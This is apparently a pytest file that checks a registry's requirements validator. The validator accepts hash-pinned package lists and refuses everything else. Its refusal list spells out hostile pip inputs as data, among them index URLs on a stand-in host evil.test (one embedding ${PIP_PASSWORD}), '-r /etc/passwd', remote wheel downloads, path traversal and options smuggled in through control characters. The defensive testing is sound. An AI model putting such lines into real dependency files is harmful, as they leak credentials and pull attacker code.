# SPDX-License-Identifier: Apache-2.0
"""A Bento's list of packages: pins pass, and whatever else pip would do with it is refused before pip sees it."""

from __future__ import annotations

from pathlib import Path

import pytest

from artifacts.stores.testing import refused
from core.errors import ErrorCode
from registry_api.builds.context import LOCKS, TFLITE
from registry_api.images.builders.pins import check_pins
from registry_api.images.builders.wheels import REQUIREMENTS

FOLDER = Path("deploy/locks")
HASH = "--hash=sha256:" + "0" * 64


def bento(tmp_path: Path, lines: str | bytes) -> Path:
    """A Bento with this list."""
    path = tmp_path / REQUIREMENTS
    path.parent.mkdir(parents=True)
    path.write_bytes(lines.encode() if isinstance(lines, str) else lines)
    return tmp_path


@pytest.mark.parametrize("lock", sorted({*LOCKS.values(), *TFLITE.values()}))
def test_our_own_lists_pass(tmp_path: Path, lock: str) -> None:
    """The lock of each runtime, and the SDK's wheel."""
    check_pins(bento(tmp_path, (FOLDER / lock).read_text() + f"\n./wheels/furoshiki-0.1.0-py3-none-any.whl {HASH}\n"))


@pytest.mark.parametrize(
    "lines",
    [
        "",
        "# all\n",
        "a==1\n",
        f"a==1 \\\n    {HASH} \\\n    {HASH}\n    # via b\nb==2",
        f"a[b]==1+cpu ; python_version < '3.12' \\\n    {HASH}",
    ],
)
def test_pins_pass(tmp_path: Path, lines: str) -> None:
    """With extras, markers, hashes and comments."""
    check_pins(bento(tmp_path, lines))


@pytest.mark.parametrize(
    "line",
    [
        "--index-url http://evil.test/simple",
        "--extra-index-url=http://evil.test/${PIP_PASSWORD}",
        "--no-binary :all:",
        "a==1 --no-binary=a",
        "a==1 --config-settings=x=y",
        "a==1 --global-option=x",
        "-e ./evil",
        "-r /etc/passwd",
        "-c other.txt",
        "--find-links /tmp",
        "a @ file:///srv/a.whl",
        "a @ https://evil.test/a.whl",
        "git+https://evil.test/a",
        "https://evil.test/a.whl",
        "./wheels/../../a.whl",
        "./evil",
        "/srv/a.whl",
        "a",
        "a>=1",
        "a==1 # b\\\n--pre",
        "a==1\r--pre",
        "a==1\u2028--pre",
        "a==1\x0b--pre",
        "# x \\\n--pre",
        b"\xff",
        "# -*- coding: utf-7 -*-\n# +AAo---pre",
    ],
)
def test_what_is_no_pin_is_refused(tmp_path: Path, line: str | bytes) -> None:
    """SIGN_010, as for anything in a Bento that is malformed."""
    with refused(ErrorCode.MANIFEST_INVALID, REQUIREMENTS):
        check_pins(bento(tmp_path, line))
